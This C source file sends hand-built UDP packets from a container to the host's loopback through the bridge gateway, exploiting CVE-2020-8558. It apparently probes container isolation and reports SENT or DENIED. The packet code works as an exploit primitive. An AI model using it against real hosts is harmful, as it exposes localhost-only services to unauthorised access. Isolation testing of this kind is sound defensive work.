/* A pot's root trying to reach the host's loopback through its bridge (CVE-2020-8558): with
 * route_localnet on the bridge, a packet the pot builds for 127.0.0.1 and sends to the gateway's
 * MAC would be accepted by the host. It needs only CAP_NET_RAW (AF_PACKET), which pots keep.
 *
 *   net_probe IFACE GATEWAY_MAC SRC_IP DST_IP PORT PAYLOAD
 *
 * sends one UDP datagram (IPv4, built by hand) out of IFACE to GATEWAY_MAC; prints SENT, or
 * DENIED ERRNO when the socket or the send is refused. Whether it arrived is for the host to say. */
#include <arpa/inet.h>
#include <errno.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <netinet/ip.h>
#include <netinet/udp.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>

static unsigned short checksum(const void *data, size_t len) {
    const unsigned short *p = data;
    unsigned long sum = 0;
    for (; len > 1; len -= 2) sum += *p++;
    if (len) sum += *(const unsigned char *)p;
    while (sum >> 16) sum = (sum & 0xffff) + (sum >> 16);
    return (unsigned short)~sum;
}

int main(int argc, char **argv) {
    if (argc != 7) { fprintf(stderr, "usage: net_probe IFACE MAC SRC DST PORT PAYLOAD\n"); return 2; }
    unsigned char mac[6];
    if (sscanf(argv[2], "%hhx:%hhx:%hhx:%hhx:%hhx:%hhx", &mac[0], &mac[1], &mac[2], &mac[3], &mac[4], &mac[5]) != 6)
        return 2;
    size_t plen = strlen(argv[6]);
    unsigned char pkt[1500] = {0};
    struct iphdr *ip = (struct iphdr *)pkt;
    struct udphdr *udp = (struct udphdr *)(pkt + sizeof *ip);
    memcpy(pkt + sizeof *ip + sizeof *udp, argv[6], plen);
    ip->version = 4; ip->ihl = 5; ip->ttl = 64; ip->protocol = IPPROTO_UDP;
    ip->tot_len = htons(sizeof *ip + sizeof *udp + plen);
    ip->saddr = inet_addr(argv[3]); ip->daddr = inet_addr(argv[4]);
    ip->check = checksum(ip, sizeof *ip);
    udp->source = htons(40000); udp->dest = htons(atoi(argv[5]));
    udp->len = htons(sizeof *udp + plen); udp->check = 0;  /* no checksum: allowed for IPv4 */

    int fd = socket(AF_PACKET, SOCK_DGRAM, htons(ETH_P_IP));
    if (fd < 0) { printf("DENIED %d\n", errno); return 0; }
    struct sockaddr_ll to = {0};
    to.sll_family = AF_PACKET; to.sll_protocol = htons(ETH_P_IP);
    to.sll_ifindex = if_nametoindex(argv[1]); to.sll_halen = 6;
    memcpy(to.sll_addr, mac, 6);
    for (int i = 0; i < 3; i++)
        if (sendto(fd, pkt, sizeof *ip + sizeof *udp + plen, 0, (struct sockaddr *)&to, sizeof to) < 0) {
            printf("DENIED %d\n", errno);
            return 0;
        }
    printf("SENT\n");
    return 0;
}
